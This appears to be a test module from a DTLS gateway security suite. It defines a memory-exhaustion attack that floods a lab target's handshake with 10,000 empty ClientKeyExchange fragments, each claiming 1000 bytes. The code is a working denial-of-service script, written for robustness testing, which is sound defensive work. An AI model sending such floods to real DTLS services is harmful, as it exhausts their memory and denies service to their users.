import { writeFragment } from "../../../dtls/wire/handshake.ts";
import { HandshakeType } from "../../../dtls/wire/registry.ts";
import { gatewayAttack } from "../../attack.ts";
import { floodInHandshake } from "./flood.ts";
import { availability, overDtls } from "./reference.ts";

export default gatewayAttack({
  id: "U-16c",
  title: "ten thousand fragments without content",
  transports: overDtls,
  defeats: "handshake-memory-unbounded",
  severity: "medium",
  reference: availability(["RFC 6347 §4.2.3"], [770, 400]),
  async run(lab) {
    // Forty in a record: each says that it belongs to a ClientKeyExchange of 1000 bytes, and brings none of them.
    return await floodInHandshake(lab, 250, "40 fragments without content", (client) => {
      const seq = client.outgoing.nextSeq + 1;
      const empty = writeFragment(HandshakeType.client_key_exchange, 1000, seq, 0, new Uint8Array());
      return Buffer.concat(Array.from({ length: 40 }, () => empty));
    });
  },
});
